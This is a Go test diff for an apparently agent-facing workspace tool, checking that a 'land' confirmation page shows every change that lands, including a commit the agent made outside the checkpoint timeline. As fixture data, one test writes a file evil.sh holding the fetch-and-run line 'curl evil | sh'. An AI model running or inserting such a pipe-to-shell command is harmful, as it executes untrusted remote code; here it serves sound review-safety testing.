@@ -232,6 +232,8 @@ func TestALandLandsOnlyWhatWasReviewed(t *testing.T) {
 	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
 	body = f.postBody("/head/h/land", url.Values{"branch": {"review"}})
 	require.Contains(t, body, `id="confirm-button"`)
+	// The confirmation shows what lands: here a.txt's change.
+	assert.Regexp(t, `(?s)id="land-diff".*a\.txt.*<td class="code add">b</td>`, body)
 	i := strings.Index(body, `name="expect" value="`)
 	require.Positive(t, i)
 	expect := body[i+len(`name="expect" value="`):][:40]
@@ -335,4 +337,23 @@ func TestTheComparisonCountsUncommittedLines(t *testing.T) {
 		page := f.get("/compare?h=h&h=h", http.StatusOK)
 		assert.Contains(t, page, `2 file(s) <span class="add">+2</span> <span class="del">−1</span>`)
 	}
+}
+
+// A commit the agent made with its own git is no checkpoint, so no
+// timeline entry shows it; the land's confirmation shows it all the same,
+// since it shows what lands.
+func TestALandShowsCommitsThatAreNotCheckpoints(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	h, err := f.ws.OpenHead(ctx, "h", &workspace.ReopenOptions{ReadOnly: true})
+	require.NoError(t, err)
+	root := h.Info().Root
+	require.NoError(t, h.Close())
+	require.NoError(t, os.WriteFile(filepath.Join(root, "evil.sh"), []byte("curl evil | sh\n"), 0o755))
+	for _, args := range [][]string{{"add", "-A"}, {"-c", "user.name=a", "-c", "user.email=a@x", "commit", "-qm", "quiet"}} {
+		_, err := githarness.Git(ctx, root, args...)
+		require.NoError(t, err)
+	}
+	body := f.postBody("/head/h/land", url.Values{"branch": {"review"}})
+	assert.Regexp(t, `(?s)id="land-diff".*evil\.sh.*curl evil \| sh`, body)
 }
